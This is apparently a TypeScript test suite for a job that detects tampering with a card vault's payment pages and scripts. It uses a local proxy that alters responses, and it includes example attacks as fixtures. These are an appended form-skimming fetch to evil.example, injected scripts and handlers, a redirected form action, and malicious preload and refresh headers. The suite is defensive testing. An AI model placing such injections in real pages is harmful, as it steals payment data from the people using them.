import { createServer } from 'node:http';
import { gzipSync } from 'node:zlib';
import { pages } from 'turnout:pages';
import { sendBytes } from '#platform/http/egress/egress.ts';
import { logTo } from '#platform/log.ts';
import { metricsTo } from '#platform/metrics.ts';
import { checkPagesJob } from '#vault/jobs/check-pages.ts';
import inventory from '#vault/pages/script-inventory.json' with { type: 'json' };
import { listeningPort } from '../../../support/runner/listening-port.ts';
import { type ServedVault, serveVault } from '../pages/served-vault.ts';

/** An answer between the vault and browsers, which a test may change on its way. */
interface Answer {
  status: number;
  headers: Record<string, string>;
  body: Buffer;
}

/** All files for browsers: a script and a style for each page, and the shops' script. */
const everything = [
  '/api/v1/capture_form',
  '/api/v1/show_card',
  '/api/v1/show_service_code',
  `/assets/${pages.capture.file}`,
  `/assets/${pages.frame.file}`,
  `/assets/${pages.show.file}`,
  '/v1/embed.js',
];

let vault: ServedVault;
let edge: Awaited<ReturnType<typeof anEdge>>;
beforeAll(async () => {
  vault = await serveVault();
  edge = await anEdge(vault.url);
  // The pages contain the edge's URL as their own, as they do behind CloudFront.
  process.env.VAULT_URL = edge.url;
});
afterAll(async () => {
  await edge.stop();
  await vault.stop();
});
beforeEach(() => {
  edge.onTheWay = () => undefined;
});

/**
 * The job as it is deployed, but with outputs of the test: its findings, and the values of its
 * metric.
 */
async function checked(url = edge.url) {
  const lines: string[] = [];
  const job = checkPagesJob({
    pages,
    inventory,
    site: () => ({ url, loopbackAllowed: true }),
    send: sendBytes,
    log: logTo((line) => lines.push(line)),
    metric: metricsTo((line) => lines.push(line)),
  });
  await job({ id: 'run-1' });
  const told = lines.map((line): Record<string, unknown> => JSON.parse(line));
  return {
    found: told
      .filter(({ message }) => message === 'page altered')
      .map(({ path, what }) => `${path}: ${what}`),
    told,
    metric: told.flatMap(({ PagesTampered }) =>
      PagesTampered === undefined ? [] : [PagesTampered],
    ),
  };
}

/** The page, script or style that the edge is to change, and how. */
const changing = (path: string, change: (answer: Answer) => void) => {
  edge.onTheWay = (at, answer) => {
    if (at === path) change(answer);
  };
};

const form = '/api/v1/capture_form';

describe('the check of the pages from outside', () => {
  it('the check of the pages finds nothing where nothing was changed, and reports that it checked everything', async () => {
    const seen: string[] = [];
    edge.onTheWay = (path) => seen.push(path);
    const { found, told, metric } = await checked();
    expect(found).toEqual([]);
    expect(metric).toEqual([]);
    expect(told).toContainEqual(
      expect.objectContaining({ message: 'pages checked', run: 'run-1', checked: 7, altered: 0 }),
    );
    expect(seen.sort()).toEqual([...everything].sort());
  });

  it('the check of the pages leaves no audit record', async () => {
    await checked();
    expect(vault.inMemory.vault.ports.audit.items()).toEqual([]);
  });

  it.each(everything)(
    'the check of the pages finds a single byte that was added to %s',
    async (path) => {
      changing(path, (answer) => {
        answer.body = Buffer.concat([answer.body, Buffer.from('\n')]);
      });
      const { found, metric } = await checked();
      expect(found).toEqual([`${path}: bytes`]);
      expect(metric).toEqual([1]);
    },
  );

  it('the check of the pages finds an exchanged script, and its present content', async () => {
    const path = `/assets/${pages.capture.file}`;
    changing(path, (answer) => {
      const text = `${answer.body}fetch("https://evil.example?"+document.forms[0].elements[0].value)`;
      answer.body = Buffer.from(text);
    });
    const { told } = await checked();
    const [altered] = told.filter(({ message }) => message === 'page altered');
    expect(altered).toMatchObject({ run: 'run-1', path, what: 'bytes' });
    expect(altered?.found).toMatch(/^sha384-[\w+/]{64}$/);
    expect(altered?.found).not.toBe(pages.capture.integrity);
  });

  it.each([
    ['another script', (html: string) => html.replace('</head>', '<script src="//x"></script>')],
    ['an inline script', (html: string) => html.replace('<main', '<script>0</script><main')],
    ['an attribute that runs', (html: string) => html.replace('<body', '<body onload="x()"')],
    ['a script without its hash', (html: string) => html.replace(/ integrity="[^"]+"/, '')],
    ['a form that goes elsewhere', (html: string) => html.replace('<h1', '<form action="//x"><h1')],
  ])('the check of the pages finds %s in a page', async (_, change) => {
    changing(form, (answer) => {
      const html = answer.body.toString();
      answer.body = Buffer.from(change(html));
      expect(answer.body.toString()).not.toBe(html);
    });
    expect((await checked()).found).toEqual([`${form}: bytes`]);
  });

  it.each([
    'content-security-policy',
    'referrer-policy',
    'permissions-policy',
    'strict-transport-security',
    'x-content-type-options',
    'cross-origin-embedder-policy',
    'cross-origin-resource-policy',
    'cache-control',
    'content-type',
  ])('the check of the pages finds that a page has lost its %s', async (name) => {
    changing(form, ({ headers }) => {
      expect(headers[name]).toBeDefined();
      delete headers[name];
    });
    const { found, told } = await checked();
    expect(found).toEqual([`${form}: ${name}`]);
    expect(told).toContainEqual(expect.objectContaining({ what: name, found: 'missing' }));
  });

  it.each([
    ['content-security-policy', "default-src 'none'; script-src https:"],
    ['access-control-allow-origin', '*'],
    ['set-cookie', 'a=b'],
    ['link', '<https://evil.example/x.js>; rel=preload; as=script'],
    ['refresh', '0; url=https://evil.example'],
    ['report-to', '{"group":"x"}'],
  ])('the check of the pages finds that a page has another %s', async (name, value) => {
    changing(form, ({ headers }) => {
      headers[name] = value;
    });
    const { found, told } = await checked();
    expect(found).toEqual([`${form}: ${name}`]);
    expect(told).toContainEqual(expect.objectContaining({ what: name, found: value }));
  });

  it("the check of the pages accepts an edge's additions without effect on browsers", async () => {
    edge.onTheWay = (_, { headers }) => {
      Object.assign(headers, {
        via: '1.1 edge',
        'x-cache': 'Hit',
        age: '7',
        'alt-svc': 'h3=":443"',
      });
    };
    expect((await checked()).found).toEqual([]);
  });

  it('the check of the pages finds a page that has moved, or is missing', async () => {
    changing(form, (answer) => {
      answer.status = 302;
      answer.headers.location = 'https://evil.example/';
    });
    expect((await checked()).found).toEqual([`${form}: status`, `${form}: location`]);
  });

  it("the check of the pages finds content served only to people: it sends a browser's headers", async () => {
    edge.onTheWay = (path, answer, headers) => {
      const isPerson = /Mozilla.*Chrome/.test(headers['user-agent'] ?? '');
      const isScript = headers['sec-fetch-dest'] === 'script' && path.includes('capture');
      if (isPerson && isScript) answer.body = Buffer.from('0');
    };
    expect((await checked()).found).toEqual([`/assets/${pages.capture.file}: bytes`]);
  });

  it('the check of the pages reads compressed content as a browser does', async () => {
    edge.onTheWay = (_, answer) => {
      answer.body = gzipSync(answer.body);
      answer.headers['content-encoding'] = 'gzip';
    };
    expect((await checked()).found).toEqual([]);
    changing(form, (answer) => {
      answer.body = gzipSync(`${answer.body} `);
      answer.headers['content-encoding'] = 'gzip';
    });
    expect((await checked()).found).toEqual([`${form}: bytes`]);
  });

  it('the check of the pages counts a page that it cannot load as altered', async () => {
    const path = `/assets/${pages.show.file}`;
    changing(path, (answer) => {
      answer.headers['content-encoding'] = 'gzip';
    });
    expect((await checked()).found).toEqual([`${path}: bytes`]);

    const gone = await anEdge(vault.url);
    await gone.stop();
    const { found, metric } = await checked(gone.url);
    expect(found.every((one) => one.endsWith(': no answer'))).toBe(true);
    expect(metric).toEqual([everything.length]);
  });

  it("the check of the pages requires the inventory's approved content, and not the latest build's", async () => {
    const lines: string[] = [];
    const approvedOnce = inventory.map((one) =>
      one.file === 'show.js' ? { ...one, integrity: `sha384-${'A'.repeat(64)}` } : one,
    );
    const job = checkPagesJob({
      pages,
      inventory: approvedOnce,
      site: () => ({ url: edge.url, loopbackAllowed: true }),
      send: sendBytes,
      log: logTo((line) => lines.push(line)),
      metric: () => {},
    });
    await job({});
    const altered = lines.filter((line) => line.includes('page altered'));
    expect(altered).toHaveLength(1);
    expect(altered[0]).toContain(pages.show.file);
    await expect(
      checkPagesJob({
        pages,
        inventory: [{ file: 'unknown.js', pages: [], integrity: '' }],
        site: () => ({ url: edge.url, loopbackAllowed: true }),
        send: sendBytes,
        log: logTo(() => {}),
        metric: () => {},
      })({}),
    ).rejects.toThrow('unknown.js');
  });
});

/** Something in front of the vault, on a port of its own, that can change whatever passes. */
async function anEdge(origin: string) {
  const server = createServer((request, response) => {
    const { url = '/', headers } = request;
    const passed = {
      'sec-fetch-dest': headers['sec-fetch-dest'],
      'user-agent': headers['user-agent'],
    };
    fetch(`${origin}${url}`, { redirect: 'manual', headers: { 'accept-encoding': 'identity' } })
      .then(async (answered) => {
        const answer: Answer = {
          status: answered.status,
          headers: Object.fromEntries(answered.headers),
          body: Buffer.from(await answered.arrayBuffer()),
        };
        for (const name of ['transfer-encoding', 'content-length', 'connection', 'keep-alive']) {
          delete answer.headers[name];
        }
        const shown = Object.fromEntries(
          Object.entries(passed).map(([name, value]) => [name, [value].flat().join()]),
        );
        made.onTheWay(url.split('?')[0] ?? '', answer, shown);
        response.writeHead(answer.status, answer.headers).end(answer.body);
      })
      .catch(() => response.destroy());
  });
  const port = await listeningPort(server);
  const made = {
    url: `http://127.0.0.1:${port}`,
    onTheWay: (
      _path: string,
      _answer: Answer,
      _headers: Readonly<Record<string, string>>,
    ): unknown => undefined,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
  return made;
}
